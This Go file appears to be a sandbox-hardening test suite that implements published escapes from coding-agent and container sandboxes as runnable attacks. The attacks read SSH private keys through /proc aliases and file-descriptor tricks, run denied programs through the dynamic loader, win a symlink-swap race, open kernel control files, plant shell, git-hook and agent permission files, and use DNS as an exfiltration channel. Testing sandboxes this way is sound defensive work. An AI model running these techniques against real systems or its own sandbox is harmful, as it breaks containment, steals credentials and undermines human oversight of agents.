package attack

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// publicAttacks are escapes from the sandboxes of coding agents and of containers
// that were published in 2024 to 2026. docs/security.md has the advisory of each,
// and those that are no matter of the sandbox.
func publicAttacks() []attack {
	return append([]attack{
		{id: "P01", name: "denied file by /proc/self/root", run: func(t target) error { return readsAlias(t.Home + "/.ssh/id_rsa") }},
		{id: "P02", name: "denied program by the dynamic loader", run: runByLoader},
		{id: "P03", name: "write through a link of its own", run: func(t target) error {
			link := t.Build + "/out"
			return errors.Join(os.Symlink(t.Outside, link), appends(link+"/through-link"))
		}, written: func(t target) bool { return pwned(t.Outside + "/through-link") }},
		{id: "P04", name: "folder swapped for a link while opened", run: readSwapped},
		{id: "P05", name: "leave by an inherited folder", never: true, run: func(t target) error {
			rel, err := filepath.Rel(filepath.Dir(filepath.Dir(t.Home)), t.Home+"/.ssh/id_rsa")
			for fd := 3; fd < 64 && err == nil; fd++ {
				if reads(fmt.Sprintf("/proc/self/fd/%d/%s", fd, rel)) == nil {
					return nil
				}
			}
			return errors.Join(errBlocked, err)
		}},
		{id: "P06", name: "settings and memory of the kernel in /proc", run: openKernelFiles},
		{id: "P07", name: "create settings that were missing", run: func(t target) error {
			var errs []error
			for _, file := range missingSettings(t) {
				errs = append(errs, os.MkdirAll(filepath.Dir(file), 0o755), appends(file)) //nolint:gosec // a folder of the attack's own target
			}
			return errors.Join(errs...)
		}, written: func(t target) bool {
			for _, file := range missingSettings(t) {
				if pwned(file) {
					return true
				}
			}
			return false
		}},
	}, publicPivots()...)
}

// publicPivots reach what others use later, or what runs elsewhere.
func publicPivots() []attack {
	return []attack{
		{id: "P08", name: "service of the host by another address", run: dialAliases},
		{id: "P09", name: "name lookup as a way out", run: func(t target) error { return lookUp(t.Datagram) }},
		{id: "P10", name: "replace an entry of a shared cache", run: func(t target) error {
			entry, own := t.Cache+"/entry", t.Build+"/entry"
			return errors.Join(appends(own), os.Rename(own, entry), appends(entry))
		}, written: func(t target) bool { return pwned(t.Cache + "/entry") }},
		{id: "P11", name: "a sandbox of its own with everything in it", run: func(t target) error {
			bwrap, err := exec.LookPath("bwrap")
			if err != nil {
				return err
			}
			out, err := exec.Command(bwrap, "--ro-bind", "/", "/", "cat", t.Key).Output() //nolint:noctx,gosec // it ends with the command
			if err == nil && !bytes.Contains(out, []byte(secretMark)) {
				err = errBlocked
			}
			return err
		}},
		{id: "P12", name: "denied file by the root of another process", run: func(t target) error {
			roots, err := filepath.Glob("/proc/[0-9]*")
			own := strconv.Itoa(os.Getpid())
			for _, dir := range roots {
				if filepath.Base(dir) != own && reads(dir+"/root"+t.Home+"/.ssh/id_rsa") == nil {
					return nil
				}
			}
			return errors.Join(errBlocked, err)
		}},
		{id: "P13", name: "socket of the host through a link", run: func(t target) error {
			link := t.Build + "/sock"
			if err := os.Symlink(filepath.Dir(t.Socket), link); err != nil {
				return err
			}
			return errors.Join(unixSocket(link+"/"+filepath.Base(t.Socket)), unixSocket("/proc/self/root"+t.Socket))
		}},
	}
}

// readsAlias reads a file by other names of it; one that works is enough.
func readsAlias(file string) error {
	var errs []error
	for _, alias := range []string{"/proc/self/root", "/proc/thread-self/root", "/proc/self/task/" + strconv.Itoa(unix.Gettid()) + "/root", "/proc/self/cwd/../../../../../../../../../../..", "//"} {
		err := reads(alias + file)
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

// runByLoader starts a program outside by mapping it, which asks for no right to
// execute it.
func runByLoader(t target) error {
	loaders, err := filepath.Glob("/lib*/ld-linux*.so.*")
	for _, loader := range loaders {
		out, runErr := exec.Command(loader, t.Denied, "/proc/self/status").Output() //nolint:noctx,gosec // it ends with the command
		if runErr == nil && bytes.Contains(out, []byte("CapEff:")) {
			return nil
		}
		err = errors.Join(err, runErr)
	}
	return errors.Join(errBlocked, err)
}

// readSwapped exchanges a folder with a link to the secrets, again and again, while
// it opens a file by the folder's name. One of both names leads to them at any time.
func readSwapped(t target) error {
	folder, link := t.Build+"/swap", t.Build+"/swap-link"
	if err := errors.Join(os.Mkdir(folder, 0o755), os.WriteFile(folder+"/id_rsa", nil, 0o644), os.Symlink(t.Home+"/.ssh", link)); err != nil { //nolint:gosec // of the attack's own
		return err
	}
	done := make(chan struct{})
	swapped := make(chan error, 1)
	go func() {
		var err error
		for {
			select {
			case <-done:
				swapped <- err
				return
			default:
				err = unix.Renameat2(unix.AT_FDCWD, folder, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
			}
		}
	}()
	err := errBlocked
	for range 5000 {
		if err = reads(folder + "/id_rsa"); err == nil {
			break
		}
	}
	close(done)
	if swapErr := <-swapped; swapErr != nil && err != nil {
		err = errors.Join(err, swapErr)
	}
	return err
}

// openKernelFiles opens what changes the kernel of the machine, or shows its memory,
// and neither writes nor reads any of it.
func openKernelFiles(target) error {
	var errs []error
	for file, flags := range map[string]int{
		"/proc/sys/kernel/core_pattern": os.O_WRONLY, "/proc/sys/kernel/modprobe": os.O_WRONLY, "/proc/sysrq-trigger": os.O_WRONLY,
		"/proc/sys/fs/binfmt_misc/register": os.O_WRONLY, "/proc/kcore": os.O_RDONLY, "/sys/kernel/uevent_helper": os.O_WRONLY,
	} {
		f, err := os.OpenFile(file, flags, 0)
		if err == nil {
			return f.Close()
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

// missingSettings are files that shells, git and agents obey later, and that are not
// there when the command starts.
func missingSettings(t target) []string {
	return []string{
		t.Home + "/.zshenv", t.Home + "/.profile", t.Home + "/.config/git/config", t.Home + "/.ycbot/config.yml", t.Home + "/.claude/settings.json",
		t.Git + "/config.worktree", t.Git + "/info/attributes", t.Git + "/hooks/post-checkout", t.Pristine + "/.github/ycbot.yml", t.Pristine + "/.ycbot/permissions.json",
	}
}

// dialAliases reaches the host's service by addresses that mean the loopback too.
func dialAliases(t target) error {
	_, port, err := net.SplitHostPort(t.Service)
	if err != nil {
		return err
	}
	n, err := strconv.Atoi(port)
	if err != nil {
		return err
	}
	var errs []error
	for _, host := range []string{"0.0.0.0", "::", "::ffff:127.0.0.1"} {
		err := dialFamily(net.ParseIP(host), n, strings.Contains(host, ":"))
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

func dialFamily(ip net.IP, port int, six bool) error {
	family, to := unix.AF_INET, unix.Sockaddr(&unix.SockaddrInet4{Port: port})
	if six {
		family, to = unix.AF_INET6, &unix.SockaddrInet6{Port: port, Addr: [16]byte(ip.To16())}
	}
	fd, err := unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := errors.Join(unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2}), unix.Connect(fd, to)); err != nil {
		return err
	}
	return answeredBy(fd)
}

// lookUp sends a packet to a resolver in the ways that need no connection: a name in
// it would carry a secret to the server that answers for the name.
func lookUp(address string) error {
	a, err := net.ResolveUDPAddr("udp4", address)
	if err != nil {
		return err
	}
	var errs []error
	for _, six := range []bool{false, true} {
		family, to := unix.AF_INET, unix.Sockaddr(&unix.SockaddrInet4{Port: a.Port, Addr: [4]byte(a.IP.To4())})
		if six {
			family, to = unix.AF_INET6, &unix.SockaddrInet6{Port: a.Port, Addr: [16]byte(a.IP.To16())}
		}
		err := func() error {
			fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			if err := errors.Join(unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2}), unix.Sendto(fd, []byte("x"), 0, to)); err != nil {
				return err
			}
			return answeredBy(fd)
		}()
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

// answeredBy wants the secret of the harness from a socket.
func answeredBy(fd int) error {
	b := make([]byte, 64)
	n, err := unix.Read(fd, b)
	if n > 0 && bytes.Contains(b[:n], []byte(secretMark)) {
		return nil
	}
	return errors.Join(errBlocked, err)
}
